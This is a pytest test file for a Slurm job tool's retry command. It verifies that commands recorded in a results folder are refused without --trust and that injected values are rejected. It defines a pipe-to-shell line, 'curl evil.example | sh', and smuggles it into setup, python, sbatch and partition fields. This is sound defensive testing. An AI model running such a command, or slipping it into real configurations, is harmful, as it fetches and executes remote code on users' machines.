"""`retry` of jobs: what a results folder says of commands is shown, and run only when trusted."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from segsweep.base.config import compose
from segsweep.base.errors import UserError
from segsweep.base.words import add_folder
from segsweep.run.identity import Run
from segsweep.sweeps.options import Slurm
from segsweep.sweeps.slurm import submit
from segsweep.verbs import retry
from tests.sites import Site

EVIL = "curl evil.example | sh"


@pytest.fixture
def site(tmp_path_factory: pytest.TempPathFactory, monkeypatch: pytest.MonkeyPatch) -> Site:
    made = Site(tmp_path_factory.mktemp("site"), monkeypatch)
    made.knows(says={"sbatch": "7\n", "scontrol": "MaxArraySize = 1001\n"})
    return made


@pytest.fixture
def run(site: Site, tmp_path: Path) -> Path:
    """A run that was submitted, and whose job is gone."""
    made = Run(compose([f"io.results={tmp_path}", "trainer.accelerator=cpu"]))
    submit([made], Slurm())
    return made.directory


def remembered(run: Path, options: dict[str, Any], **facts: Any) -> None:
    """Change what a run's folder says of its job, and of the options that it had."""
    path = run / "job.json"
    job = json.loads(path.read_text())
    path.write_text(json.dumps(job | facts | {"launcher": vars(Slurm()) | options}))


def again(run: Path, *words: str) -> int:
    return retry.main([run.name, "--results", str(run.parent.parent), *words])


def scripts(run: Path) -> list[str]:
    return [path.read_text() for path in run.parent.glob(".submit/*/batch.sh")]


def test_commands_of_a_results_folder_need_trust(site: Site, run: Path, capsys) -> None:
    (run / "last.ckpt").write_text("of the attempts so far")
    evil = {"setup": [EVIL], "python": EVIL, "sbatch": {"wrap": EVIL}}
    lines = [f'setup: [] -> ["{EVIL}"]', f'python: null -> "{EVIL}"']
    lines.append(f'sbatch: {{}} -> {{"wrap": "{EVIL}"}}')
    for (key, value), line in zip(evil.items(), lines, strict=True):
        remembered(run, {key: value})
        with pytest.raises(UserError, match="--trust uses them"):
            again(run, "--anew")
        assert line in capsys.readouterr().out
    assert len(site.calls("sbatch")) == len(scripts(run)) == 1
    assert (run / "last.ckpt").exists()
    remembered(run, evil)
    assert again(run, "--with", "python=null", "setup=[]", "sbatch={}") == 0
    assert not any(EVIL in script for script in scripts(run))
    remembered(run, evil)
    assert again(run, "--trust") == 0
    assert all(line in capsys.readouterr().out for line in lines[:1])
    assert [script.count(EVIL) for script in scripts(run) if EVIL in script] == [3]


def test_values_that_are_not_plain_are_refused(site: Site, run: Path) -> None:
    for options, said in (
        ({"partition": f"main\n{EVIL}"}, "launcher.partition is 'main.n"),
        ({"account": "${oc.env:HOME}"}, "launcher.account is '.{oc.env"),
        ({"time": "now"}, r"job\.json: launcher: time=now: must be a whole number"),
        ({"mem": ["16G"]}, r"launcher.mem is \['16G'\]"),
        ({"time": 0}, r"job\.json: hydra\.launcher\.signal_delay"),
        ({"setup": EVIL}, "launcher.setup is"),
    ):
        remembered(run, options)
        with pytest.raises(UserError, match=said):
            again(run, "--trust")
    assert len(site.calls("sbatch")) == 1


def test_a_launcher_that_the_reader_does_not_have_needs_trust(site: Site, run: Path) -> None:
    for word in ("elsewhere", "../../../conf", "slurm,basic", "local", 7):
        remembered(run, {"time": 30}, word=word)
        with pytest.raises(UserError, match=r"job\.json: (?s:.)*--trust uses what stands there"):
            again(run)
    assert again(run, "--trust") == 0
    assert json.loads((run / "job.json").read_text())["launcher"]["time"] == 30


def test_plain_options_are_those_of_the_job_and_commands_those_of_the_reader(
    site: Site, run: Path, tmp_path: Path, capsys
) -> None:
    own = tmp_path / "conf" / "hydra" / "launcher" / "site.yaml"
    own.parent.mkdir(parents=True)
    own.write_text("defaults: [slurm]\ntime: 60\nmem: 8G\nsetup: ['export A=\\${HOME}']\n")
    add_folder(tmp_path / "conf")
    had = {"time": 30, "partition": "main", "setup": ["export A=${HOME}"]}
    remembered(run, had, word="site")
    assert again(run, "--with", "mem=2G", "sbatch.nice=5") == 0
    assert "in your configuration" not in capsys.readouterr().out
    job = json.loads((run / "job.json").read_text())
    assert job["launcher"].items() >= (had | {"mem": "2G", "sbatch": {"nice": 5}}).items()
    assert (job["word"], job["attempts"]) == ("site", 2)


def test_options_that_would_not_stay_in_their_line_are_refused() -> None:
    with pytest.raises(UserError, match=r"hydra\.launcher\.partition='a b': one word"):
        Slurm(partition="a b")
